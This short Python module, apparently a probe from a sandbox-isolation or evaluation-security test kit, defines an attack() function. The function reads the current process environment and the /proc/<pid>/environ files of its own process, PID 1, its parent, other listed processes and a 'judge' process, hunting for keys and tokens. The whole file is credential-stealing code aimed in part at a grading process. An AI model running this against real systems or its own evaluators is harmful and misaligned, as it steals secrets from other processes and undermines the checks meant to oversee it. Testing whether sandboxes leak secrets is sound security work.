"""Reads the environment of the judge's processes: keys and tokens are often there."""

import os

from kit import FACTS, any_works, is_secret, reads_secret


def attack() -> bool:
    paths = [f"/proc/{pid}/environ" for pid in ("self", 1, os.getppid(), *FACTS["processes"], FACTS["judge"])]
    own = [lambda: is_secret(repr(os.environ)), lambda: is_secret(repr(os.environb))]
    return any_works(*own, *[lambda path=path: reads_secret(path) for path in paths])
